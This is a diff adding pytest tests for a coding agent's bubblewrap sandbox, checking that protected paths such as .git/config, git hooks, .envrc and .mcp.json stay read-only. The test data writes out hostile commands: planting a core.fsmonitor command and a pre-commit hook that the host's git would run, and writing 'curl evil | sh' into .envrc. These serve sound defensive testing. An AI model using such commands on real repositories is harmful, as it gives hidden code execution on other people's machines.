@@ -1,0 +1,241 @@
+"""BubblewrapSandbox: protected paths inside writable roots stay read-only; real bwrap and git."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+from typing import TYPE_CHECKING
+
+import pytest
+import trio
+
+from prism.coding.security import (
+    BubblewrapSandbox,
+    SandboxUnavailableError,
+    create_sandbox_shell_operations,
+)
+from prism.coding.security._mounts import PlaceholderLease, is_placeholder, protected_plan
+from prism.coding.tools import ShellExit, ShellOperations, ShellSpawnRequest
+from prism.core import ConfigurationError
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+
+def _bwrap_works() -> str | None:
+    path = shutil.which("bwrap")
+    if path is None:
+        return "bwrap is not installed (apt-get install bubblewrap)"
+    probe = subprocess.run(
+        [path, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all",
+         "--die-with-parent", "true"],
+        capture_output=True, check=False, timeout=30,
+    )  # fmt: skip
+    if probe.returncode != 0:
+        return f"bwrap cannot create namespaces here: {probe.stderr.decode(errors='replace')}"
+    return None
+
+
+_SKIP = _bwrap_works()
+needs_bwrap = pytest.mark.skipif(_SKIP is not None, reason=_SKIP or "")
+needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+
+
+async def run(ops: ShellOperations, command: str, cwd: Path) -> tuple[ShellExit, str]:
+    chunks: list[bytes] = []
+
+    async def sink(chunk: bytes) -> None:
+        chunks.append(chunk)
+
+    request = ShellSpawnRequest(
+        command=command,
+        shell_path="/bin/sh",
+        cwd=str(cwd),
+        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin")},
+    )
+    with trio.fail_after(30):
+        result = await ops.run(request, sink)
+    return result, b"".join(chunks).decode(errors="replace")
+
+
+def _git_repo(root: Path) -> None:
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+
+
+def _fsmonitor_attack(marker: Path) -> str:
+    """Set core.fsmonitor, three ways; the host's next ``git status`` would run it."""
+    return (
+        f"git config core.fsmonitor 'touch {marker}'; "
+        f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> .git/config; "
+        "mv .git .git-old && mkdir .git && cp -r .git-old/. .git/ && "
+        f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> .git/config; "
+        "echo attempted"
+    )
+
+
+async def _host_git_status(root: Path) -> None:
+    await trio.run_process(["git", "status", "--short"], cwd=root, capture_stdout=True)
+
+
+@needs_git
+async def test_the_fsmonitor_attack_works_without_the_sandbox(root: Path, tmp_path: Path) -> None:
+    _git_repo(root)
+    marker = tmp_path / "pwned"
+    await trio.run_process(["/bin/sh", "-c", _fsmonitor_attack(marker)], cwd=root)
+    await _host_git_status(root)
+    assert marker.exists()
+
+
+@needs_bwrap
+@needs_git
+async def test_sandboxed_command_cannot_plant_an_fsmonitor_for_the_host_git(
+    root: Path, tmp_path: Path
+) -> None:
+    _git_repo(root)
+    config = (root / ".git" / "config").read_bytes()
+    marker = tmp_path / "pwned"
+    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
+    _, output = await run(ops, _fsmonitor_attack(marker), root)
+    assert "attempted" in output
+    assert (root / ".git" / "config").read_bytes() == config
+    assert not (root / ".git-old").exists()
+    await _host_git_status(root)
+    assert not marker.exists()
+
+
+@needs_bwrap
+@needs_git
+async def test_sandboxed_command_cannot_create_a_git_hook(root: Path) -> None:
+    _git_repo(root)
+    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
+    _, output = await run(ops, "echo 'touch x' > .git/hooks/pre-commit; echo attempted", root)
+    assert "attempted" in output
+    assert not (root / ".git" / "hooks" / "pre-commit").exists()
+
+
+@needs_bwrap
+@needs_git
+async def test_missing_hooks_directory_cannot_be_created(root: Path) -> None:
+    _git_repo(root)
+    shutil.rmtree(root / ".git" / "hooks")
+    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
+    _, output = await run(
+        ops, "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit; echo attempted", root
+    )
+    assert "attempted" in output
+    assert not (root / ".git" / "hooks").exists()
+
+
+@needs_bwrap
+@needs_git
+async def test_git_still_commits_inside_the_sandbox(root: Path) -> None:
+    _git_repo(root)
+    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
+    command = (
+        "echo hello > a.txt && git add a.txt && "
+        "git -c user.name=t -c user.email=t@example.invalid commit -qm one && git log --oneline"
+    )
+    result, output = await run(ops, command, root)
+    assert result.exit_code == 0, output
+    assert "one" in output
+
+
+@needs_bwrap
+async def test_missing_protected_files_cannot_be_created_but_others_can(root: Path) -> None:
+    before = sorted(os.listdir(root))
+    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
+    command = (
+        "echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; mkdir .claude; "
+        "echo ok > ordinary.txt; echo attempted"
+    )
+    _, output = await run(ops, command, root)
+    assert "attempted" in output
+    assert (root / "ordinary.txt").read_text() == "ok\n"
+    for name in (".envrc", ".mcp.json", ".claude"):
+        assert not (root / name).exists(), name
+    assert sorted(os.listdir(root)) == sorted([*before, "ordinary.txt"])
+
+
+@needs_bwrap
+async def test_existing_protected_file_is_read_only(root: Path) -> None:
+    (root / ".envrc").write_text("export A=1\n")
+    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
+    _, output = await run(
+        ops, "echo evil >> .envrc; rm -f .envrc; mv .envrc x; echo attempted", root
+    )
+    assert "attempted" in output
+    assert (root / ".envrc").read_text() == "export A=1\n"
+
+
+@needs_bwrap
+async def test_protected_paths_option_adds_entries(root: Path) -> None:
+    (root / "Makefile").write_text("all:\n")
+    sandbox = BubblewrapSandbox([str(root)], protected_paths=["Makefile", "deploy/keys"])
+    ops = create_sandbox_shell_operations(sandbox)
+    _, output = await run(ops, "echo evil >> Makefile; mkdir -p deploy/keys; echo attempted", root)
+    assert "attempted" in output
+    assert (root / "Makefile").read_text() == "all:\n"
+    assert not (root / "deploy" / "keys").exists()
+
+
+@needs_bwrap
+async def test_dangling_symlink_at_a_protected_path_refuses_to_run(root: Path) -> None:
+    (root / ".envrc").symlink_to(root / "missing")
+    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
+    with pytest.raises(SandboxUnavailableError, match="dangling"):
+        await run(ops, "echo x > .envrc", root)
+    assert not (root / "missing").exists()
+
+
+def test_a_run_leaves_placeholders_that_another_run_still_holds(root: Path) -> None:
+    first = PlaceholderLease([str(root)], [".envrc"])
+    second = PlaceholderLease([str(root)], [".envrc"])
+    first.acquire()
+    second.acquire()
+    assert is_placeholder(str(root / ".envrc"))
+    first.release()
+    assert is_placeholder(str(root / ".envrc"))
+    second.release()
+    assert not (root / ".envrc").exists()
+
+
+def test_release_removes_placeholders_a_crashed_run_left(root: Path) -> None:
+    (root / ".envrc").touch(mode=0)
+    (root / ".envrc").chmod(0)
+    lease = PlaceholderLease([str(root)], [".envrc"])
+    lease.acquire()
+    lease.release()
+    assert not (root / ".envrc").exists()
+
+
+def test_release_keeps_a_real_empty_file(root: Path) -> None:
+    (root / ".envrc").touch()
+    lease = PlaceholderLease([str(root)], [".envrc"])
+    lease.acquire()
+    lease.release()
+    assert (root / ".envrc").exists()
+
+
+def test_plan_pins_directories_and_seals_the_entry(root: Path) -> None:
+    (root / ".git" / "hooks").mkdir(parents=True)
+    (root / ".git" / "config").touch()
+    plan = protected_plan(str(root), [".git/config", ".git/hooks", ".git/info/attributes"])
+    git = str(root / ".git")
+    assert plan == [
+        ("pin", git),
+        ("ro", f"{git}/config"),
+        ("ro", f"{git}/hooks"),
+        ("placeholder", f"{git}/info"),
+    ]
+
+
+def test_plan_binds_a_worktree_git_file_whole(root: Path) -> None:
+    (root / ".git").write_text("gitdir: elsewhere\n")
+    assert protected_plan(str(root), [".git/config", ".git/hooks"]) == [("ro", str(root / ".git"))]
+
+
+@pytest.mark.parametrize("value", ["Makefile", ["/abs"], ["../up"], [""]])
+def test_bad_protected_paths_raise_naming_the_option(value: object) -> None:
+    with pytest.raises(ConfigurationError, match="protected_paths"):
+        BubblewrapSandbox([], protected_paths=value)  # type: ignore[arg-type]
